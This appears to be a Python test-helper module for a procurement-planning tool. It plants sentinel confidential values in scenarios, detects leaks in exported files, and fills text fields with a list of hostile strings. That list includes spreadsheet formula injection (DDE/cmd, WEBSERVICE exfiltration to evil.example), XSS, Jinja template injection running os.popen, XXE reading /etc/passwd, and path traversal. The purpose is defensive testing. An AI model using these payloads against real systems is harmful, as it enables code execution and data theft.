"""What must never leave in a document: confidential values planted in a scenario, and hostile texts in all its fields.

`with_secrets` and `with_hostile` take a scenario as `document_of` gives it and return one that `scenario_of` reads. Ids
stay, so a plan of the one is a plan of the other under other names (see `renamed`).
"""

from __future__ import annotations

import html
import io
import json
import re
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from copy import deepcopy
from itertools import count
from types import UnionType
from typing import Annotated, Any, NamedTuple, Union, get_args, get_origin

import pypdfium2
from pydantic import BaseModel
from pydantic.fields import FieldInfo

from models.base import Text
from models.plan import Plan
from models.run import Approval
from models.scenario import Scenario
from solver.sizing.names import names_of


def document_of(scenario: Scenario) -> dict[str, Any]:
    """A scenario as plain values."""
    return scenario.model_dump(mode="json", by_alias=True)


def scenario_of(document: Mapping[str, Any]) -> Scenario:
    """The scenario of plain values."""
    return Scenario.model_validate_json(json.dumps(document))


_TEXT = get_args(Text)[1].metadata

APPROVAL = Approval(
    by="B. Whimbrel", at="2026-11-23T09:00:00.000Z", note="walk away above Quillback", quotes_expire=None
)
"""An approval whose note is confidential: for a run that the plan belongs to."""


class Planted(NamedTuple):
    """A scenario with confidential values, and these."""

    document: dict[str, Any]
    secrets: dict[str, tuple[str, ...]]
    """What is confidential -> ways to write it; digits without separators of thousands."""

    @property
    def scenario(self) -> Scenario:
        return scenario_of(self.document)


def with_secrets(document: Mapping[str, Any]) -> Planted:
    """Twelve confidential values in a scenario (with offers, benchmarks, workloads and vendors); they bind nothing."""
    planted = deepcopy(dict(document))
    offers, policy = list(planted["offers"]), dict(planted["policy"])
    dear = max(range(len(offers)), key=lambda n: offers[n]["usd_per_hour"])
    offers[dear] = {**offers[dear], "usd_per_hour": 431.7719}
    quoted = {"grade": "quote", "source": "quote Zanderling-88 of the other bidder", "confidential": True}
    offers[0] = {**offers[0], "evidence": {**offers[0]["evidence"], **quoted, "date": "2026-10-05"}}
    benchmark = planted["benchmarks"][0]
    measured = {**benchmark, "evidence": {**benchmark["evidence"], "source": "bench Wryneck of the lab"}}
    policy["budgets"] = [{"id": "walk-away", "kind": "total", "max_usd": 987_654_321.0}]
    policy["engineers"] = {"usd_per_engineer_month": 17_393.0, "engineer_months_per_quarter": 40_404.0}
    policy["fixed_costs"] = [{"id": "staff", "name": "team Fieldfare", "usd_per_month": 31_337.0}]
    first, *others = planted["workloads"]
    judged = {"vendor": planted["vendors"][0]["id"], "criterion": "support", "score": 1.0, "reviewer": "J. Turnstone"}
    planted |= {
        "offers": offers,
        "policy": policy,
        "benchmarks": [measured, *planted["benchmarks"][1:]],
        "workloads": [{**first, "value_per_unit_usd": 0.000777123}, *others],
        "milestones": [{"id": "launch", "name": "takeover of Dotterel", "month": planted["horizon"]["start"]}],
        "cases": _told_apart(planted["cases"]),
        "procurement": {**planted.get("procurement", {}), "note": "we would sign at Corncrake"},
        "scorecard": {"reviews": [{**judged, "date": "2026-10-06", "note": "never answers: Garganey"}]},
    }
    return Planted(planted, _SECRETS)


_SECRETS: dict[str, tuple[str, ...]] = {
    "budget": ("987654321", "987.65"),
    "price of another vendor": ("431.77",),
    "confidential quote": ("Zanderling",),
    "note of the procurement": ("Corncrake",),
    "source of a measurement": ("Wryneck",),
    "probability of a case": ("0.5173", "51.73"),
    "milestone": ("Dotterel",),
    "internal rate": ("17393",),
    "fixed cost": ("31337", "Fieldfare"),
    "worth of a unit": ("000777", "777.123"),
    "review of a vendor": ("Garganey", "Turnstone"),
    "note of the approval": ("Quillback", "Whimbrel"),
}


def _told_apart(cases: Any) -> list[dict[str, Any]]:
    """Two cases with a probability that nothing else is like."""
    first = {**cases[0], "probability": 0.5173}
    other = {**(cases[1] if len(cases) > 1 else {"id": "other"}), "probability": 0.4827}
    return [first, other]


_LONG = "A very long name of a product that goes on " * 40
HOSTILE: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://evil.example/","click")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "%=1+1",
    "<script>window.taken=1</script>",
    "<img src=x onerror=window.taken=1>",
    '<a href="http://evil.example/">quote</a>',
    "<b>bold</b> & <i>more</i>",
    "![i](http://evil.example/i.png)",
    "[l](http://evil.example/l)",
    "[l]: http://evil.example/l",
    "<http://evil.example>",
    "http://evil.example/plain",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "mailto:evil@evil.example",
    "# heading\n| a | b |\n|---|---|",
    "```\ncode\n```",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for i in range(9) %}x{% endfor %}",
    "{# gone #}",
    "{{r body }}",
    "{%tr for x in lots %}",
    "{%p include 'x' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "#sys.inputs",
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    '#image("/etc/passwd")',
    '#link("http://evil.example")[x]',
    '#eval("1+1")',
    "$ x^2 $ *strong* _emph_ @ref <label>",
    "\\u{1F600} \\ // /* */ ~ --- '\"",
    "]]> <![CDATA[x]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;w:p&gt; &amp; &#x41;",
    '</w:t></w:r></w:p><w:p><w:r><w:fldSimple w:instr="DDE cmd"/></w:r></w:p><w:p><w:r><w:t>',
    '<w:altChunk r:id="rId1"/>',
    '{\\rtf1\\field{\\*\\fldinst HYPERLINK "http://evil.example"}}',
    'INCLUDETEXT "file:///etc/passwd"',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.docx",
    "nul\x00bell\x07back\x08esc\x1bvt\x0bff\x0cend\ufffe\uffff",
    _LONG,
    "rtl \u202egnp.exe zero\u200bwidth \ufeffbom \U0001f600 e\u0301",
    "Übermaß «ß» 漢字 العربية",
)
"""Texts that must be shown as they are, or cleaned of characters that no document can hold."""


def with_hostile(document: Mapping[str, Any], first: int = 0) -> dict[str, Any]:
    """The scenario with a hostile text in every free text of every record, and all of them in every list of texts.

    Parameters
    ----------
    first : number of the text that the first field gets; the others follow in turn.
    """
    filled = deepcopy(dict(document))
    filled["offers"] = [{**offer, "contents": offer["contents"] or {}} for offer in filled["offers"]]
    fixed = filled["policy"]["fixed_costs"] or [{"id": "fixed", "usd_per_month": 1.0}]
    filled["policy"] = {**filled["policy"], "fixed_costs": fixed}
    filled["scorecard"] = {**filled["scorecard"], "reviews": [_review(filled)]}
    requests = [{"workload": filled["workloads"][0]["id"], "input_tokens": 900.0}]
    filled["procurement"] = {**filled.get("procurement", {}), "requests": requests}
    seen = _Filler(first).filled(scenario_of(filled))
    return document_of(seen)


def _review(document: Mapping[str, Any]) -> dict[str, Any]:
    vendor = document["vendors"][0]["id"]
    return {"vendor": vendor, "criterion": "support", "score": 2.0, "reviewer": "R", "date": "2026-01-01"}


class _Filler:
    """Puts the texts into a model one after the other."""

    def __init__(self, first: int) -> None:
        self.numbers = count(first)

    def filled(self, model: Any) -> Any:
        return type(model).model_construct(
            None, **{name: self._of(getattr(model, name), field) for name, field in type(model).model_fields.items()}
        )

    def _of(self, value: Any, field: FieldInfo) -> Any:
        if _is_text(field.annotation, field.metadata):
            return HOSTILE[next(self.numbers) % len(HOSTILE)]
        if get_origin(field.annotation) is tuple and _is_text(get_args(field.annotation)[0]):
            return HOSTILE
        return self._inside(value)

    def _inside(self, value: Any) -> Any:
        if isinstance(value, BaseModel):
            return self.filled(value)
        return tuple(map(self._inside, value)) if isinstance(value, tuple) else value


def _is_text(annotation: Any, metadata: Sequence[Any] = ()) -> bool:
    """Whether a type is `models.base.Text`: words as somebody typed them, no id and no date."""
    if annotation is str:
        return list(metadata) == list(_TEXT)
    if get_origin(annotation) is Annotated:
        inner, *fields = get_args(annotation)
        return inner is str and [each for field in fields for each in getattr(field, "metadata", [field])] == list(
            _TEXT
        )
    inner = [each for each in get_args(annotation) if each is not type(None)]
    return get_origin(annotation) in (Union, UnionType) and len(inner) == 1 and _is_text(inner[0])


def renamed(plan: Plan, scenario: Scenario) -> Plan:
    """A plan as it would be if records of its scenario had been called as in another one with the same ids."""
    seen = plan.provenance.model_copy(update={"scenario": scenario.name})
    return plan.model_copy(update={"names": names_of(scenario), "provenance": seen})


def texts_of(name: str, content: bytes) -> str:
    """All that can be read in a file: of archives every part, of markup also the text without it, of PDF its pages."""
    if content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return "\n".join(part + "\n" + texts_of(part, archive.read(part)) for part in archive.namelist())
    if content[:5] == b"%PDF-":
        return _of_pdf(content)
    if content[:4] == b"PAR1":
        import pandas as pd

        return str(pd.read_parquet(io.BytesIO(content)).to_csv())
    text = content.decode("utf-8", errors="replace")
    if name.endswith(".json"):
        return text + "\n" + json.dumps(json.loads(text), ensure_ascii=False)
    bare = re.sub(r"</(w:p|a:p|si|is|row|c)>|<w:(br|tab)\b[^>]*>", "\n", text)
    return text + "\n" + html.unescape(re.sub(r"<[^>]*>", "", bare)) if text.lstrip()[:1] == "<" else text


def _of_pdf(content: bytes) -> str:
    with pypdfium2.PdfDocument(content) as document:
        pages = [page.get_textpage().get_text_range() for page in document]
        return "\n".join([*map(str, document.get_metadata_dict().values()), *pages])


def leaks(files: Mapping[str, bytes], secrets: Mapping[str, tuple[str, ...]]) -> list[str]:
    """Which secrets are in which files, however the digits are parted."""
    return list(_leaks(files, secrets))


def _leaks(files: Mapping[str, bytes], secrets: Mapping[str, tuple[str, ...]]) -> Iterator[str]:
    for name, content in files.items():
        text = re.sub(r"(?<=\d)[,'\u00a0\u202f ](?=\d\d\d)", "", f"{name}\n{texts_of(name, content)}")
        for secret, forms in secrets.items():
            yield from (f"{secret} in {name}: {form}" for form in forms if form in text)
